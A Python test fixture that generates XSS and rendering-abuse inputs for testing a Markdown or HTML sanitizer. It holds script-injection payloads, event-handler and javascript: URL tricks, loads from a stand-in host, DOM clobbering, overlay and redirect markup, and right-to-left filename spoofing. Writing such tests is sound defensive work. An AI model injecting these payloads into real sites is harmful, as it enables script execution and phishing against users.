"""Texts that try to run a script, load something, or cover the page, made from what varies.

Each is a thing that a browser would do, in each of the places where Markdown, HTML or a template
could let it through.
"""

from __future__ import annotations

from collections.abc import Iterator

_RUN = "window.ran=1;document.title='ran'"
_AWAY = "https://away.example"

# What a browser would run or load if it came through as HTML.
_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\n>",
    f"<script src={_AWAY}/s.js></script>",
    f'<img src={_AWAY}/i.png onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f'<svg/onload="{_RUN}"><image href={_AWAY}/v.svg /></svg>',
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<iframe src="{_AWAY}/f" srcdoc="<script>parent.ran=1</script>"></iframe>',
    f"<object data={_AWAY}/o></object><embed src={_AWAY}/e>",
    f"<video src={_AWAY}/v autoplay></video><audio src={_AWAY}/a></audio>",
    f"<link rel=stylesheet href={_AWAY}/c.css><style>@import '{_AWAY}/d.css';</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}/'><base href={_AWAY}/>",
    f"<form action={_AWAY}/><input name=attributes autofocus onfocus={_RUN}><button>x</form>",
    f'<details open ontoggle="{_RUN}">x</details><marquee onstart="{_RUN}">x</marquee>',
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>cover</div>",
    f"<a name=body id=main href={_AWAY}>clobber</a><p id=messages class='top skip'>x</p>",
    "</article></div></main></body></html><h1>outside</h1>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<!--><script>{_RUN}</script>--><![CDATA[><script>{_RUN}</script>]]>",
    "<plaintext><noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
]
_ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"\x01java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'{_AWAY}/"onmouseover="{_RUN}',
    f"//{_AWAY.removeprefix('https://')}/x",
]
_AROUND = [
    "{}",
    "**{}**",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "```html {}\n{}\n```",
    "$${}$$",
    "\\({}\\)",
    "[x]({})",
    "![{}](x)",
    "\ue200url\ue202{}\ue201 【1:0†{}】",
]
_LINKS = ["[press]({})", "![picture]({})", "<{}>", "[a][r]\n\n[r]: {}", "[x]({} 'title')"]
# What would make the page wide, or very long in one line, or read backwards.
_SHAPES = [
    "W" * 3_000,
    "字" * 2_000,
    "\u202egnp.exe\u202c " * 20,
    "a" + "\u0301" * 400,
    "| " + " | ".join("column" for _ in range(60)) + " |\n|" + "---|" * 60,
    "```\n" + "x" * 3_000 + "\n```",
    "> " * 60 + "deep",
    "- " * 40 + "deep",
    "[" * 500,
    "\U000e0001\U000e0068\U000e0069",
]


def texts() -> Iterator[str]:
    """Yield every text; a few hundred, the same ones each time."""
    for element in _ELEMENTS:
        for around in _AROUND:
            yield around.replace("{}", element)
    for address in _ADDRESSES:
        for link in _LINKS:
            yield link.replace("{}", address)
    yield from _SHAPES


def names() -> list[str]:
    """Return those for fields of one line."""
    return [*_ELEMENTS, *_ADDRESSES, *_SHAPES[:4]]
